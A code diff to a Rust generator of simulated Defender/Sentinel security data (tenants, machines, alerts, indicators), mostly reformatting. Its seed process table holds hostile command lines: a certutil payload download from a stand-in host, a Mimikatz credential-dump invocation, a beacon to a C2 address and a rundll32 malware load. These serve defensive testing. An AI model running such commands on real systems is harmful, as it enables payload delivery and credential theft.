@@ -9,7 +9,9 @@ use rand::{Rng, SeedableRng};
 use serde_json::{Value, json};
 use time::{Duration, OffsetDateTime};
 
-use crate::defender::{Alert, FileInfo, IpAddressInfo, Indicator, LibraryFile, LogonUser, Machine, MachineAction};
+use crate::defender::{
+    Alert, FileInfo, Indicator, IpAddressInfo, LibraryFile, LogonUser, Machine, MachineAction,
+};
 use crate::kql::{ColType, Column, Database, Table, Value as K};
 use crate::state::MachineState;
 use crate::util::{fmt_time, guid_from, hex_from};
@@ -29,6 +31,27 @@ pub struct WorkspaceData {
     pub incident_comments: HashMap<String, Vec<Value>>,
     /// Log tables for the query API.
     pub logs: Database,
+    /// Per-table retention and plan (ARM `tables` resource); absent = workspace defaults.
+    pub table_settings: HashMap<String, TableSettings>,
+}
+
+/// Table-level settings changed through ARM (`-1` = the workspace default).
+#[derive(Debug, Clone)]
+pub struct TableSettings {
+    pub retention_in_days: i64,
+    pub total_retention_in_days: i64,
+    pub plan: String,
+    pub last_plan_modified: OffsetDateTime,
+}
+
+/// An ARM long-running operation (polled through `Azure-AsyncOperation`).
+#[derive(Debug, Clone)]
+pub struct ArmOperation {
+    pub id: String,
+    pub subscription_id: String,
+    pub location: String,
+    pub started: OffsetDateTime,
+    pub started_at: std::time::Instant,
 }
 
 /// Everything one tenant holds.
@@ -50,6 +73,8 @@ pub struct TenantData {
     pub detection_rules: Vec<Value>,
     pub next_rule_id: u64,
     pub workspaces: Vec<WorkspaceData>,
+    /// ARM long-running operations by id.
+    pub arm_operations: Vec<ArmOperation>,
 }
 
 struct TenantSpec {
@@ -70,7 +95,10 @@ const TENANTS: &[TenantSpec] = &[
         netbios: "CONTOSO",
         subnet: 10,
         external_prefix: "20.103",
-        workspaces: &[("rg-sentinel-prod", "law-contoso-sentinel", "westeurope"), ("rg-sentinel-dev", "law-contoso-dev", "northeurope")],
+        workspaces: &[
+            ("rg-sentinel-prod", "law-contoso-sentinel", "westeurope"),
+            ("rg-sentinel-dev", "law-contoso-dev", "northeurope"),
+        ],
     },
     TenantSpec {
         id: "22222222-2222-4222-8222-222222222222",
@@ -90,7 +118,10 @@ pub fn generate(seed: u64, base_url: &str) -> Vec<TenantData> {
         .enumerate()
         .map(|(i, spec)| {
             // Per-tenant streams: different data per tenant, stable per seed.
-            let mut rng = StdRng::seed_from_u64(seed.wrapping_mul(0x9E37_79B9_7F4A_7C15).wrapping_add(i as u64 + 1));
+            let mut rng = StdRng::seed_from_u64(
+                seed.wrapping_mul(0x9E37_79B9_7F4A_7C15)
+                    .wrapping_add(i as u64 + 1),
+            );
             tenant(&mut rng, spec, now, base_url, i == 0)
         })
         .collect()
@@ -98,7 +129,19 @@ pub fn generate(seed: u64, base_url: &str) -> Vec<TenantData> {
 
 fn ago(rng: &mut StdRng, now: OffsetDateTime, min: Duration, max: Duration) -> OffsetDateTime {
     let span = (max - min).whole_seconds().max(1);
-    now - min - Duration::seconds(rng.random_range(0..span)) - Duration::milliseconds(rng.random_range(0..1000))
+    now - min
+        - Duration::seconds(rng.random_range(0..span))
+        - Duration::milliseconds(rng.random_range(0..1000))
+}
+
+/// A log timestamp within the last week; the first row of each table is from the last few
+/// minutes so that connected tables look continuously fed.
+fn fresh(rng: &mut StdRng, now: OffsetDateTime, newest: bool) -> OffsetDateTime {
+    if newest {
+        ago(rng, now, Duration::minutes(1), Duration::minutes(5))
+    } else {
+        ago(rng, now, Duration::minutes(1), Duration::days(7))
+    }
 }
 
 fn pick<'a, T>(rng: &mut StdRng, items: &'a [T]) -> &'a T {
@@ -115,8 +158,14 @@ struct User {
     admin: bool,
 }
 
-const FIRST: &[&str] = &["Alice", "Bruno", "Chen", "Dana", "Elif", "Farid", "Grace", "Hiro", "Ines", "Jonas", "Kemal", "Lena", "Mateo", "Nia", "Olga", "Priya"];
-const LAST: &[&str] = &["Nguyen", "Schmidt", "Okafor", "Rossi", "Kowalski", "Tanaka", "Silva", "Haddad", "Larsen", "Moreau", "Patel", "Novak"];
+const FIRST: &[&str] = &[
+    "Alice", "Bruno", "Chen", "Dana", "Elif", "Farid", "Grace", "Hiro", "Ines", "Jonas", "Kemal",
+    "Lena", "Mateo", "Nia", "Olga", "Priya",
+];
+const LAST: &[&str] = &[
+    "Nguyen", "Schmidt", "Okafor", "Rossi", "Kowalski", "Tanaka", "Silva", "Haddad", "Larsen",
+    "Moreau", "Patel", "Novak",
+];
 const DEPTS: &[&str] = &["fin", "hr", "eng", "ops", "sales", "it", "legal", "mkt"];
 
 struct Proc {
@@ -128,20 +177,104 @@ struct Proc {
 }
 
 const PROCS: &[Proc] = &[
-    Proc { name: "svchost.exe", folder: "C:\\Windows\\System32", cmd: "svchost.exe -k netsvcs -p -s Schedule", publisher: Some("Microsoft Corporation"), malicious: false },
-    Proc { name: "chrome.exe", folder: "C:\\Program Files\\Google\\Chrome\\Application", cmd: "\"chrome.exe\" --type=renderer", publisher: Some("Google LLC"), malicious: false },
-    Proc { name: "ms-teams.exe", folder: "C:\\Program Files\\WindowsApps\\MSTeams", cmd: "\"ms-teams.exe\" --system-initiated", publisher: Some("Microsoft Corporation"), malicious: false },
-    Proc { name: "OUTLOOK.EXE", folder: "C:\\Program Files\\Microsoft Office\\root\\Office16", cmd: "\"OUTLOOK.EXE\" /recycle", publisher: Some("Microsoft Corporation"), malicious: false },
-    Proc { name: "WINWORD.EXE", folder: "C:\\Program Files\\Microsoft Office\\root\\Office16", cmd: "\"WINWORD.EXE\" /n", publisher: Some("Microsoft Corporation"), malicious: false },
-    Proc { name: "powershell.exe", folder: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0", cmd: "powershell.exe -NoProfile -Command Get-Service", publisher: Some("Microsoft Corporation"), malicious: false },
-    Proc { name: "cmd.exe", folder: "C:\\Windows\\System32", cmd: "cmd.exe /c ipconfig /all", publisher: Some("Microsoft Corporation"), malicious: false },
-    Proc { name: "msedge.exe", folder: "C:\\Program Files (x86)\\Microsoft\\Edge\\Application", cmd: "\"msedge.exe\" --single-argument", publisher: Some("Microsoft Corporation"), malicious: false },
-    Proc { name: "sqlservr.exe", folder: "C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn", cmd: "sqlservr.exe -sMSSQLSERVER", publisher: Some("Microsoft Corporation"), malicious: false },
-    Proc { name: "certutil.exe", folder: "C:\\Windows\\System32", cmd: "certutil.exe -urlcache -split -f http://cdn-update.fabrikam-cdn.example/payload.bin C:\\Users\\Public\\p.bin", publisher: Some("Microsoft Corporation"), malicious: false },
-    Proc { name: "mimikatz.exe", folder: "C:\\Users\\Public\\Downloads", cmd: "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit", publisher: None, malicious: true },
-    Proc { name: "invoice_2024.docm", folder: "C:\\Users\\Public\\Downloads", cmd: "", publisher: None, malicious: true },
-    Proc { name: "svch0st.exe", folder: "C:\\ProgramData\\Updater", cmd: "svch0st.exe --beacon 203.0.113.50:443", publisher: None, malicious: true },
-    Proc { name: "wacatac.dll", folder: "C:\\Users\\Public\\AppData", cmd: "rundll32.exe C:\\Users\\Public\\AppData\\wacatac.dll,Start", publisher: None, malicious: true },
+    Proc {
+        name: "svchost.exe",
+        folder: "C:\\Windows\\System32",
+        cmd: "svchost.exe -k netsvcs -p -s Schedule",
+        publisher: Some("Microsoft Corporation"),
+        malicious: false,
+    },
+    Proc {
+        name: "chrome.exe",
+        folder: "C:\\Program Files\\Google\\Chrome\\Application",
+        cmd: "\"chrome.exe\" --type=renderer",
+        publisher: Some("Google LLC"),
+        malicious: false,
+    },
+    Proc {
+        name: "ms-teams.exe",
+        folder: "C:\\Program Files\\WindowsApps\\MSTeams",
+        cmd: "\"ms-teams.exe\" --system-initiated",
+        publisher: Some("Microsoft Corporation"),
+        malicious: false,
+    },
+    Proc {
+        name: "OUTLOOK.EXE",
+        folder: "C:\\Program Files\\Microsoft Office\\root\\Office16",
+        cmd: "\"OUTLOOK.EXE\" /recycle",
+        publisher: Some("Microsoft Corporation"),
+        malicious: false,
+    },
+    Proc {
+        name: "WINWORD.EXE",
+        folder: "C:\\Program Files\\Microsoft Office\\root\\Office16",
+        cmd: "\"WINWORD.EXE\" /n",
+        publisher: Some("Microsoft Corporation"),
+        malicious: false,
+    },
+    Proc {
+        name: "powershell.exe",
+        folder: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
+        cmd: "powershell.exe -NoProfile -Command Get-Service",
+        publisher: Some("Microsoft Corporation"),
+        malicious: false,
+    },
+    Proc {
+        name: "cmd.exe",
+        folder: "C:\\Windows\\System32",
+        cmd: "cmd.exe /c ipconfig /all",
+        publisher: Some("Microsoft Corporation"),
+        malicious: false,
+    },
+    Proc {
+        name: "msedge.exe",
+        folder: "C:\\Program Files (x86)\\Microsoft\\Edge\\Application",
+        cmd: "\"msedge.exe\" --single-argument",
+        publisher: Some("Microsoft Corporation"),
+        malicious: false,
+    },
+    Proc {
+        name: "sqlservr.exe",
+        folder: "C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn",
+        cmd: "sqlservr.exe -sMSSQLSERVER",
+        publisher: Some("Microsoft Corporation"),
+        malicious: false,
+    },
+    Proc {
+        name: "certutil.exe",
+        folder: "C:\\Windows\\System32",
+        cmd: "certutil.exe -urlcache -split -f http://cdn-update.fabrikam-cdn.example/payload.bin C:\\Users\\Public\\p.bin",
+        publisher: Some("Microsoft Corporation"),
+        malicious: false,
+    },
+    Proc {
+        name: "mimikatz.exe",
+        folder: "C:\\Users\\Public\\Downloads",
+        cmd: "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
+        publisher: None,
+        malicious: true,
+    },
+    Proc {
+        name: "invoice_2024.docm",
+        folder: "C:\\Users\\Public\\Downloads",
+        cmd: "",
+        publisher: None,
+        malicious: true,
+    },
+    Proc {
+        name: "svch0st.exe",
+        folder: "C:\\ProgramData\\Updater",
+        cmd: "svch0st.exe --beacon 203.0.113.50:443",
+        publisher: None,
+        malicious: true,
+    },
+    Proc {
+        name: "wacatac.dll",
+        folder: "C:\\Users\\Public\\AppData",
+        cmd: "rundll32.exe C:\\Users\\Public\\AppData\\wacatac.dll,Start",
+        publisher: None,
+        malicious: true,
+    },
 ];
 
 const BENIGN_REMOTE: &[(&str, &str, i64)] = &[
@@ -173,25 +306,136 @@ struct AlertTemplate {
 }
 
 const ALERT_TEMPLATES: &[AlertTemplate] = &[
-    AlertTemplate { title: "Suspicious PowerShell command line", category: "Execution", severity: "Medium", source: "WindowsDefenderAtp", technique: "T1059.001", family: None, file: Some("powershell.exe"), remote: None, description: "A suspicious PowerShell command line with an encoded payload was observed." },
-    AlertTemplate { title: "Mimikatz credential theft tool", category: "CredentialAccess", severity: "High", source: "WindowsDefenderAv", technique: "T1003.001", family: Some("Mimikatz"), file: Some("mimikatz.exe"), remote: None, description: "The credential theft tool Mimikatz was detected and was active on this device." },
-    AlertTemplate { title: "Connection to a known command-and-control server", category: "CommandAndControl", severity: "High", source: "WindowsDefenderAtp", technique: "T1071.001", family: None, file: Some("svch0st.exe"), remote: Some(0), description: "A process connected to an IP address associated with command-and-control activity." },
-    AlertTemplate { title: "Suspicious file dropped by an Office application", category: "InitialAccess", severity: "Medium", source: "WindowsDefenderAtp", technique: "T1566.001", family: None, file: Some("invoice_2024.docm"), remote: None, description: "An Office application dropped a macro-enabled document in a user's Downloads folder." },
-    AlertTemplate { title: "'Wacatac' malware was detected", category: "Malware", severity: "High", source: "WindowsDefenderAv", technique: "T1204.002", family: Some("Wacatac"), file: Some("wacatac.dll"), remote: None, description: "Trojan:Win32/Wacatac was detected and blocked." },
-    AlertTemplate { title: "Suspicious file download using certutil", category: "DefenseEvasion", severity: "Medium", source: "WindowsDefenderAtp", technique: "T1105", family: None, file: Some("certutil.exe"), remote: Some(1), description: "certutil.exe was used to download a file from the internet." },
-    AlertTemplate { title: "Multiple failed sign-in attempts (brute force)", category: "CredentialAccess", severity: "Low", source: "WindowsDefenderAtp", technique: "T1110", family: None, file: None, remote: Some(0), description: "Many failed logons from a single remote address were observed." },
-    AlertTemplate { title: "Suspicious scheduled task", category: "Persistence", severity: "Low", source: "WindowsDefenderAtp", technique: "T1053.005", family: None, file: None, remote: None, description: "A scheduled task that runs from a user-writable folder was created." },
-    AlertTemplate { title: "Anomalous account lookups", category: "Discovery", severity: "Informational", source: "WindowsDefenderAtp", technique: "T1087.002", family: None, file: None, remote: None, description: "An unusual number of account enumeration queries were made." },
-    AlertTemplate { title: "Connection to a phishing site", category: "InitialAccess", severity: "Medium", source: "SmartScreen", technique: "T1566.002", family: None, file: None, remote: Some(2), description: "A browser connected to a site impersonating a Microsoft sign-in page." },
+    AlertTemplate {
+        title: "Suspicious PowerShell command line",
+        category: "Execution",
+        severity: "Medium",
+        source: "WindowsDefenderAtp",
+        technique: "T1059.001",
+        family: None,
+        file: Some("powershell.exe"),
+        remote: None,
+        description: "A suspicious PowerShell command line with an encoded payload was observed.",
+    },
+    AlertTemplate {
+        title: "Mimikatz credential theft tool",
+        category: "CredentialAccess",
+        severity: "High",
+        source: "WindowsDefenderAv",
+        technique: "T1003.001",
+        family: Some("Mimikatz"),
+        file: Some("mimikatz.exe"),
+        remote: None,
+        description: "The credential theft tool Mimikatz was detected and was active on this device.",
+    },
+    AlertTemplate {
+        title: "Connection to a known command-and-control server",
+        category: "CommandAndControl",
+        severity: "High",
+        source: "WindowsDefenderAtp",
+        technique: "T1071.001",
+        family: None,
+        file: Some("svch0st.exe"),
+        remote: Some(0),
+        description: "A process connected to an IP address associated with command-and-control activity.",
+    },
+    AlertTemplate {
+        title: "Suspicious file dropped by an Office application",
+        category: "InitialAccess",
+        severity: "Medium",
+        source: "WindowsDefenderAtp",
+        technique: "T1566.001",
+        family: None,
+        file: Some("invoice_2024.docm"),
+        remote: None,
+        description: "An Office application dropped a macro-enabled document in a user's Downloads folder.",
+    },
+    AlertTemplate {
+        title: "'Wacatac' malware was detected",
+        category: "Malware",
+        severity: "High",
+        source: "WindowsDefenderAv",
+        technique: "T1204.002",
+        family: Some("Wacatac"),
+        file: Some("wacatac.dll"),
+        remote: None,
+        description: "Trojan:Win32/Wacatac was detected and blocked.",
+    },
+    AlertTemplate {
+        title: "Suspicious file download using certutil",
+        category: "DefenseEvasion",
+        severity: "Medium",
+        source: "WindowsDefenderAtp",
+        technique: "T1105",
+        family: None,
+        file: Some("certutil.exe"),
+        remote: Some(1),
+        description: "certutil.exe was used to download a file from the internet.",
+    },
+    AlertTemplate {
+        title: "Multiple failed sign-in attempts (brute force)",
+        category: "CredentialAccess",
+        severity: "Low",
+        source: "WindowsDefenderAtp",
+        technique: "T1110",
+        family: None,
+        file: None,
+        remote: Some(0),
+        description: "Many failed logons from a single remote address were observed.",
+    },
+    AlertTemplate {
+        title: "Suspicious scheduled task",
+        category: "Persistence",
+        severity: "Low",
+        source: "WindowsDefenderAtp",
+        technique: "T1053.005",
+        family: None,
+        file: None,
+        remote: None,
+        description: "A scheduled task that runs from a user-writable folder was created.",
+    },
+    AlertTemplate {
+        title: "Anomalous account lookups",
+        category: "Discovery",
+        severity: "Informational",
+        source: "WindowsDefenderAtp",
+        technique: "T1087.002",
+        family: None,
+        file: None,
+        remote: None,
+        description: "An unusual number of account enumeration queries were made.",
+    },
+    AlertTemplate {
+        title: "Connection to a phishing site",
+        category: "InitialAccess",
+        severity: "Medium",
+        source: "SmartScreen",
+        technique: "T1566.002",
+        family: None,
+        file: None,
+        remote: Some(2),
+        description: "A browser connected to a site impersonating a Microsoft sign-in page.",
+    },
 ];
 
-fn tenant(rng: &mut StdRng, spec: &TenantSpec, now: OffsetDateTime, _base_url: &str, stale_first_workspace: bool) -> TenantData {
+fn tenant(
+    rng: &mut StdRng,
+    spec: &TenantSpec,
+    now: OffsetDateTime,
+    _base_url: &str,
+    stale_first_workspace: bool,
+) -> TenantData {
     let fqdn = format!("{}.local", spec.domain);
     let mail_domain = format!("{}.com", spec.domain);
 
     // Users.
     let mut users: Vec<User> = Vec::new();
-    let sid_base = format!("S-1-5-21-{}-{}-{}", rng.random_range(1_000_000_000u64..4_000_000_000), rng.random_range(1_000_000_000u64..4_000_000_000), rng.random_range(1_000_000_000u64..4_000_000_000));
+    let sid_base = format!(
+        "S-1-5-21-{}-{}-{}",
+        rng.random_range(1_000_000_000u64..4_000_000_000),
+        rng.random_range(1_000_000_000u64..4_000_000_000),
+        rng.random_range(1_000_000_000u64..4_000_000_000)
+    );
     for i in 0..16 {
         let first = FIRST[(i + rng.random_range(0..FIRST.len())) % FIRST.len()];
         let last = *pick(rng, LAST);
@@ -200,7 +444,12 @@ fn tenant(rng: &mut StdRng, spec: &TenantSpec, now: OffsetDateTime, _base_url: &
             continue;
         }
         users.push(User {
-            upn: format!("{}.{}@{}", first.to_lowercase(), last.to_lowercase(), mail_domain),
+            upn: format!(
+                "{}.{}@{}",
+                first.to_lowercase(),
+                last.to_lowercase(),
+                mail_domain
+            ),
             display: format!("{first} {last}"),
             account,
             sid: format!("{sid_base}-{}", 1100 + i),
@@ -227,7 +476,11 @@ fn tenant(rng: &mut StdRng, spec: &TenantSpec, now: OffsetDateTime, _base_url: &
         let (prefix, platform, group) = match i {
             0..=27 => {
                 let dept = *pick(rng, DEPTS);
-                let platform = if rng.random_bool(0.6) { "Windows11" } else { "Windows10" };
+                let platform = if rng.random_bool(0.6) {
+                    "Windows11"
+                } else {
+                    "Windows10"
+                };
                 let group = match dept {
                     "fin" => groups[0],
                     "eng" => groups[2],
@@ -236,7 +489,15 @@ fn tenant(rng: &mut StdRng, spec: &TenantSpec, now: OffsetDateTime, _base_url: &
                 (format!("ws-{dept}"), platform, group)
             }
             28..=33 => (format!("mac-{}", pick(rng, DEPTS)), "macOS", groups[5]),
-            34..=41 => (format!("srv-{}", server_roles[i - 34]), if rng.random_bool(0.5) { "WindowsServer2022" } else { "WindowsServer2019" }, groups[3]),
+            34..=41 => (
+                format!("srv-{}", server_roles[i - 34]),
+                if rng.random_bool(0.5) {
+                    "WindowsServer2022"
+                } else {
+                    "WindowsServer2019"
+                },
+                groups[3],
+            ),
             42..=46 => (format!("lnx-{}", linux_roles[i - 42]), "Linux", groups[4]),
             _ => ("ws-guest".to_string(), "Windows10", groups[6]),
         };
@@ -244,7 +505,11 @@ fn tenant(rng: &mut StdRng, spec: &TenantSpec, now: OffsetDateTime, _base_url: &
         while !used_names.insert(format!("{prefix}-{n:03}")) {
             n += 1;
         }
-        let name = if (34..=46).contains(&i) { format!("{prefix}-{:02}", n % 100) } else { format!("{prefix}-{n:03}") };
+        let name = if (34..=46).contains(&i) {
+            format!("{prefix}-{:02}", n % 100)
+        } else {
+            format!("{prefix}-{n:03}")
+        };
         let onboarded = i < 47;
         let health = if !onboarded {
             "Inactive"
@@ -266,10 +531,30 @@ fn tenant(rng: &mut StdRng, spec: &TenantSpec, now: OffsetDateTime, _base_url: &
             _ => ago(rng, now, Duration::days(1), Duration::days(3)),
         };
         let (os_version, build, version, agent) = match platform {
-            "Windows10" => (Some("10.0.19045"), Some(19045), Some("22H2"), Some("10.8760.19041.4355")),
-            "Windows11" => (Some("10.0.22631"), Some(22631), Some("23H2"), Some("10.8760.22621.3527")),
-            "WindowsServer2019" => (Some("10.0.17763"), Some(17763), Some("1809"), Some("10.8760.17763.5820")),
-            "WindowsServer2022" => (Some("10.0.20348"), Some(20348), Some("21H2"), Some("10.8760.20348.2461")),
+            "Windows10" => (
+                Some("10.0.19045"),
+                Some(19045),
+                Some("22H2"),
+                Some("10.8760.19041.4355"),
+            ),
+            "Windows11" => (
+                Some("10.0.22631"),
+                Some(22631),
+                Some("23H2"),
+                Some("10.8760.22621.3527"),
+            ),
+            "WindowsServer2019" => (
+                Some("10.0.17763"),
+                Some(17763),
+                Some("1809"),
+                Some("10.8760.17763.5820"),
+            ),
+            "WindowsServer2022" => (
+                Some("10.0.20348"),
+                Some(20348),
+                Some("21H2"),
+                Some("10.8760.20348.2461"),
+            ),
             "Linux" => (Some("Ubuntu 22.04"), None, None, Some("101.24032.0007")),
             _ => (Some("14.4.1"), None, None, Some("101.24032.0006")),
         };
@@ -278,8 +563,17 @@ fn tenant(rng: &mut StdRng, spec: &TenantSpec, now: OffsetDateTime, _base_url: &
         } else {
             *pick(rng, &["None", "Low", "Low", "Medium", "Medium", "High"])
         };
-        let exposure = if !onboarded { "None" } else { *pick(rng, &["Low", "Medium", "Medium", "High"]) };
-        let ip = format!("10.{}.{}.{}", spec.subnet, rng.random_range(1..8), rng.random_range(10..250));
+        let exposure = if !onboarded {
+            "None"
+        } else {
+            *pick(rng, &["Low", "Medium", "Medium", "High"])
+        };
+        let ip = format!(
+            "10.{}.{}.{}",
+            spec.subnet,
+            rng.random_range(1..8),
+            rng.random_range(10..250)
+        );
         let is_server = (34..=46).contains(&i);
         let aad = !is_server && onboarded && platform != "Linux";
         let mut tags = Vec::new();
@@ -292,7 +586,9 @@ fn tenant(rng: &mut StdRng, spec: &TenantSpec, now: OffsetDateTime, _base_url: &
         if name.starts_with("srv-dc") {
             tags.push("Domain Controller".to_string());
         }
-        let mac: String = (0..6).map(|_| format!("{:02X}", rng.random::<u8>())).collect();
+        let mac: String = (0..6)
+            .map(|_| format!("{:02X}", rng.random::<u8>()))
+            .collect();
         machines.push(Machine {
             id: hex_from(rng, 20),
             computer_dns_name: format!("{name}.{fqdn}"),
@@ -350,8 +646,15 @@ fn tenant(rng: &mut StdRng, spec: &TenantSpec, now: OffsetDateTime, _base_url: &
 
     // Logon users per machine.
     let mut logon_users: HashMap<String, Vec<LogonUser>> = HashMap::new();
-    for m in machines.iter().filter(|m| m.onboarding_status == "Onboarded") {
-        let count = if m.computer_dns_name.starts_with("srv") { 3 } else { rng.random_range(1..=2) };
+    for m in machines
+        .iter()
+        .filter(|m| m.onboarding_status == "Onboarded")
+    {
+        let count = if m.computer_dns_name.starts_with("srv") {
+            3
+        } else {
+            rng.random_range(1..=2)
+        };
         let mut list: Vec<LogonUser> = Vec::new();
         for _ in 0..count {
             let u = &users[rng.random_range(0..users.len())];
@@ -367,7 +670,11 @@ fn tenant(rng: &mut StdRng, spec: &TenantSpec, now: OffsetDateTime, _base_url: &
                 last_seen: ago(rng, now, Duration::hours(1), Duration::days(5)),
                 most_prevalent_machine_id: Some(m.id.clone()),
                 least_prevalent_machine_id: Some(m.id.clone()),
-                logon_types: if m.computer_dns_name.starts_with("srv") { "RemoteInteractive".into() } else { "Interactive".into() },
+                logon_types: if m.computer_dns_name.starts_with("srv") {
+                    "RemoteInteractive".into()
+                } else {
+                    "Interactive".into()
+                },
                 log_on_machines_count: rng.random_range(1..4),
                 is_domain_admin: u.admin,
                 is_only_network_user: false,
@@ -385,19 +692,51 @@ fn tenant(rng: &mut StdRng, spec: &TenantSpec, now: OffsetDateTime, _base_url: &
                 sha1: hex_from(rng, 20),
                 sha256: hex_from(rng, 32),
                 md5: hex_from(rng, 16),
-                global_prevalence: if p.malicious { rng.random_range(3..400) } else { rng.random_range(1_000_000..900_000_000) },
-                global_first_observed: ago(rng, now, Duration::days(if p.malicious { 10 } else { 400 }), Duration::days(if p.malicious { 60 } else { 2000 })),
+                global_prevalence: if p.malicious {
+                    rng.random_range(3..400)
+                } else {
+                    rng.random_range(1_000_000..900_000_000)
+                },
+                global_first_observed: ago(
+                    rng,
+                    now,
+                    Duration::days(if p.malicious { 10 } else { 400 }),
+                    Duration::days(if p.malicious { 60 } else { 2000 }),
+                ),
                 global_last_observed: ago(rng, now, Duration::minutes(5), Duration::hours(12)),
                 size: rng.random_range(40_000..4_000_000),
-                file_type: Some(if p.name.ends_with(".docm") { "Document".into() } else { "PortableExecutable".into() }),
+                file_type: Some(if p.name.ends_with(".docm") {
+                    "Document".into()
+                } else {
+                    "PortableExecutable".into()
+                }),
                 is_pe_file: !p.name.ends_with(".docm"),
                 file_publisher: p.publisher.map(str::to_string),
-                file_product_name: p.publisher.map(|_| p.name.trim_end_matches(".exe").trim_end_matches(".EXE").to_string()),
+                file_product_name: p.publisher.map(|_| {
+                    p.name
+                        .trim_end_matches(".exe")
+                        .trim_end_matches(".EXE")
+                        .to_string()
+                }),
                 signer: p.publisher.map(str::to_string),
-                issuer: p.publisher.map(|pb| if pb.starts_with("Microsoft") { "Microsoft Windows Production PCA 2011".to_string() } else { "DigiCert Trusted G4 Code Signing RSA4096 SHA384 2021 CA1".to_string() }),
-                signer_hash: if signed { Some(hex_from(rng, 20)) } else { None },
+                issuer: p.publisher.map(|pb| {
+                    if pb.starts_with("Microsoft") {
+                        "Microsoft Windows Production PCA 2011".to_string()
+                    } else {
+                        "DigiCert Trusted G4 Code Signing RSA4096 SHA384 2021 CA1".to_string()
+                    }
+                }),
+                signer_hash: if signed {
+                    Some(hex_from(rng, 20))
+                } else {
+                    None
+                },
                 is_valid_certificate: signed,
-                determination_type: if p.malicious { "Malware".into() } else { "Clean".into() },
+                determination_type: if p.malicious {
+                    "Malware".into()
+                } else {
+                    "Clean".into()
+                },
                 determination_value: if p.malicious {
                     match p.name {
                         "mimikatz.exe" => "HackTool:Win32/Mimikatz".into(),
@@ -415,7 +754,10 @@ fn tenant(rng: &mut StdRng, spec: &TenantSpec, now: OffsetDateTime, _base_url: &
     let file_by_name = |n: &str| files.iter().find(|f| f.file_name == n);
 
     // Alerts, grouped into incidents.
-    let active: Vec<&Machine> = machines.iter().filter(|m| m.onboarding_status == "Onboarded" && m.health_status != "Inactive").collect();
+    let active: Vec<&Machine> = machines
+        .iter()
+        .filter(|m| m.onboarding_status == "Onboarded" && m.health_status != "Inactive")
+        .collect();
     let mut alerts: Vec<Alert> = Vec::new();
     let mut incident_ids: Vec<(i64, Vec<usize>)> = Vec::new();
     let mut next_incident = 1000 + rng.random_range(0..9000) as i64 + (spec.subnet as i64) * 10_000;
@@ -459,15 +801,43 @@ fn tenant(rng: &mut StdRng, spec: &TenantSpec, now: OffsetDateTime, _base_url: &
             }
             let resolved = status == "Resolved";
             alerts.push(Alert {
-                id: format!("da{}_{}", 638_000_000_000_000_000u64 + rng.random_range(0..9_999_999_999_999u64), rng.random_range(100_000_000..999_999_999)),
+                id: format!(
+                    "da{}_{}",
+                    638_000_000_000_000_000u64 + rng.random_range(0..9_999_999_999_999u64),
+                    rng.random_range(100_000_000..999_999_999)
+                ),
                 incident_id: next_incident,
-                investigation_id: if rng.random_bool(0.5) { Some(rng.random_range(1000..99999)) } else { None },
-                assigned_to: if status == "New" { None } else { Some(users[0].upn.clone()) },
+                investigation_id: if rng.random_bool(0.5) {
+                    Some(rng.random_range(1000..99999))
+                } else {
+                    None
+                },
+                assigned_to: if status == "New" {
+                    None
+                } else {
+                    Some(users[0].upn.clone())
+                },
                 severity: tpl.severity.into(),
                 status: status.into(),
-                classification: if resolved { Some("TruePositive".into()) } else { None },
-                determination: if resolved { Some(if tpl.family.is_some() { "Malware".into() } else { "SecurityTesting".into() }) } else { None },
-                investigation_state: if resolved { "Benign".into() } else { "Running".into() },
+                classification: if resolved {
+                    Some("TruePositive".into())
+                } else {
+                    None
+                },
+                determination: if resolved {
+                    Some(if tpl.family.is_some() {
+                        "Malware".into()
+                    } else {
+                        "SecurityTesting".into()
+                    })
+                } else {
+                    None
+                },
+                investigation_state: if resolved {
+                    "Benign".into()
+                } else {
+                    "Running".into()
+                },
                 detection_source: tpl.source.into(),
                 detector_id: guid_from(rng),
                 category: tpl.category.into(),
@@ -477,8 +847,13 @@ fn tenant(rng: &mut StdRng, spec: &TenantSpec, now: OffsetDateTime, _base_url: &
                 alert_creation_time: created,
                 first_event_time: created - Duration::minutes(rng.random_range(1..20)),
                 last_event_time: created - Duration::seconds(rng.random_range(1..50)),
-                last_update_time: created + Duration::minutes(rng.random_range(0..60)).min(now - created),
-                resolved_time: if resolved { Some(created + Duration::minutes(30).min(now - created)) } else { None },
+                last_update_time: created
+                    + Duration::minutes(rng.random_range(0..60)).min(now - created),
+                resolved_time: if resolved {
+                    Some(created + Duration::minutes(30).min(now - created))
+                } else {
+                    None
+                },
                 machine_id: machine.id.clone(),
                 computer_dns_name: machine.computer_dns_name.clone(),
                 rbac_group_name: machine.rbac_group_name.clone(),
@@ -486,7 +861,9 @@ fn tenant(rng: &mut StdRng, spec: &TenantSpec, now: OffsetDateTime, _base_url: &
                 threat_name: tpl.family.map(|f| format!("{f} threat")),
                 mitre_techniques: vec![tpl.technique.into()],
                 related_user: Some(json!({"userName": user.account, "domainName": spec.netbios})),
-                logged_on_users: vec![json!({"accountName": user.account, "domainName": spec.netbios})],
+                logged_on_users: vec![
+                    json!({"accountName": user.account, "domainName": spec.netbios}),
+                ],
                 comments: Vec::new(),
                 evidence,
                 related_sha1: sha1,
@@ -543,10 +920,34 @@ fn tenant(rng: &mut StdRng, spec: &TenantSpec, now: OffsetDateTime, _base_url: &
     let mut indicators = Vec::new();
     let mut next_indicator_id = 4000 + rng.random_range(0..1000u64);
     let seeded_iocs: Vec<(String, &str, &str, &str)> = vec![
-        (MALICIOUS_REMOTE[0].0.to_string(), "IpAddress", "Block", "Known C2 server"),
-        (MALICIOUS_REMOTE[1].1.to_string(), "DomainName", "Block", "Payload staging domain"),
-        (files.iter().find(|f| f.file_name == "mimikatz.exe").map(|f| f.sha1.clone()).unwrap_or_default(), "FileSha1", "BlockAndRemediate", "Mimikatz"),
-        ("https://login-micros0ft.example/owa".to_string(), "Url", "Warn", "Phishing landing page"),
+        (
+            MALICIOUS_REMOTE[0].0.to_string(),
+            "IpAddress",
+            "Block",
+            "Known C2 server",
+        ),
+        (
+            MALICIOUS_REMOTE[1].1.to_string(),
+            "DomainName",
+            "Block",
+            "Payload staging domain",
+        ),
+        (
+            files
+                .iter()
